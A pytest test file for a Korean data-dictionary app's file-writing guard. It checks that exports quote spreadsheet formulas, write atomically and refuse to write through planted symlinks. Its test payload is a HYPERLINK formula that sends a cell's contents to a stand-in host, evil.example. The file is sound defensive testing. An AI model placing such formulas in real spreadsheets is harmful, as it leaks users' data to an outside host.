"""Issue 11, every file the app writes goes through one guard (catalog_app/safe_files): text a
spreadsheet would run is quoted, files are written to a temporary file and renamed (atomic, never
through a symbolic link left at the target), and the app reads its own quoting back unchanged."""

from __future__ import annotations

import csv
import os
import shutil
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner
from openpyxl import Workbook

from catalog_app.catalog.store import Catalog
from catalog_app.cli import cli
from catalog_app.dictionary.diff import diff_dictionaries, write_diff_xlsx
from catalog_app.dictionary.formats import read_dictionary, write_csv, write_xlsx
from catalog_app.dictionary.model import Dictionary, Term
from catalog_app.matching.decisions import MappingDesk
from catalog_app.safe_files import neutralise, restore, save_atomic

INJECTION = '=HYPERLINK("http://evil.example/?q="&A1,"설명 보기")'


def _run(db: Path, *args: str, code: int = 0):
    result = CliRunner().invoke(
        cli, ["--catalog", str(db), *args], env={"CATALOG_APP_USER": "관리자"}
    )
    assert result.exit_code == code, result.output
    assert "Traceback" not in result.output
    return result


@pytest.fixture
def db(template, tmp_path) -> Path:
    path = tmp_path / "catalog.db"
    shutil.copy(template, path)
    _run(path, "standards", "add-word", "드론", "--english", "Drone")
    _run(path, "standards", "add-term", "드론촬영일자", "--description", INJECTION)
    return path


@pytest.mark.slow
def test_standards_export_quotes_formulas_in_xlsx_and_csv_and_reads_them_back(db, tmp_path):
    xlsx = tmp_path / "기관표준.xlsx"
    _run(db, "standards", "export", str(xlsx))
    ws = openpyxl.load_workbook(xlsx)["공통표준용어"]
    cells = [c for row in ws.iter_rows() for c in row if c.value and "HYPERLINK" in str(c.value)]
    assert [c.value for c in cells] == ["'" + INJECTION] and cells[0].data_type == "s"
    folder = tmp_path / "csv"
    _run(db, "standards", "export", str(folder))
    with open(folder / "terms.csv", encoding="utf-8-sig", newline="") as fh:
        texts = [v for row in csv.reader(fh) for v in row if "HYPERLINK" in v]
    assert texts == ["'" + INJECTION]
    for path in (xlsx, folder):
        [term] = [t for t in read_dictionary(path).terms if t.name == "드론촬영일자"]
        assert term.description == INJECTION  # the app's own quoting is read back


@pytest.mark.slow
def test_standards_export_replaces_a_symlink_instead_of_writing_through_it(db, tmp_path):
    victim = tmp_path / "남의파일.txt"
    victim.write_text("그대로", encoding="utf-8")
    folder = tmp_path / "csv"
    folder.mkdir()
    try:
        (folder / "terms.csv").symlink_to(victim)
        (tmp_path / "out.xlsx").symlink_to(victim)
    except (OSError, NotImplementedError):
        pytest.skip("symlinks not available")
    _run(db, "standards", "export", str(folder))
    _run(db, "standards", "export", str(tmp_path / "out.xlsx"))
    assert victim.read_text(encoding="utf-8") == "그대로"
    assert not (folder / "terms.csv").is_symlink() and not (tmp_path / "out.xlsx").is_symlink()
    assert read_dictionary(tmp_path / "out.xlsx").terms


@pytest.mark.slow
def test_a_failed_export_keeps_the_previous_file(db, tmp_path, monkeypatch):
    target = tmp_path / "기관표준.xlsx"
    _run(db, "standards", "export", str(target))
    before = target.read_bytes()

    def boom(*_a, **_k):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(Workbook, "save", boom)
    _run(db, "standards", "export", str(target), code=4)
    assert target.read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == []


def test_writers_outside_the_cli_use_the_guard(tmp_path):
    d = Dictionary(terms=[Term("가", "A", "D", description=INJECTION)])
    write_xlsx(d, tmp_path / "a.xlsx")
    write_csv(d, tmp_path / "csv")
    assert read_dictionary(tmp_path / "a.xlsx").terms[0].description == INJECTION
    e = Dictionary(terms=[Term("가", "A", "D", description="다른 설명")])
    write_diff_xlsx(diff_dictionaries(e, d), tmp_path / "diff.xlsx")
    wb = openpyxl.load_workbook(tmp_path / "diff.xlsx")
    formulas = [c for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    values = [c.value for ws in wb for row in ws.iter_rows() for c in row]
    assert "'" + INJECTION in values


def test_mapping_memory_export_quotes_and_import_restores(template, tmp_path):
    db = tmp_path / "c.db"
    shutil.copy(template, db)
    with Catalog(db) as cat:
        cat.conn.execute(
            """INSERT INTO mapping_memory (label, term_name, updated_at)
               VALUES ('=1+2', '@SUM(A1)', 't')"""
        )
        desk = MappingDesk(cat)
        desk.export_memory(tmp_path / "m.csv")
        text = (tmp_path / "m.csv").read_text(encoding="utf-8-sig")
        assert "'=1+2" in text and "'@SUM(A1)" in text
        cat.conn.execute("DELETE FROM mapping_memory")
        desk.import_memory(tmp_path / "m.csv")
        row = cat.conn.execute("SELECT label, term_name FROM mapping_memory").fetchone()
        assert (row["label"], row["term_name"]) == ("=1+2", "@SUM(A1)")


def test_the_guard_itself(tmp_path):
    assert neutralise(INJECTION) == "'" + INJECTION and restore("'" + INJECTION) == INJECTION
    assert neutralise("-12.5") == "-12.5" and neutralise("주소") == "주소"
    target = tmp_path / "x.txt"
    save_atomic(lambda tmp: tmp.write_text("새 내용", encoding="utf-8"), target)
    assert target.read_text(encoding="utf-8") == "새 내용"
    assert os.listdir(tmp_path) == ["x.txt"]
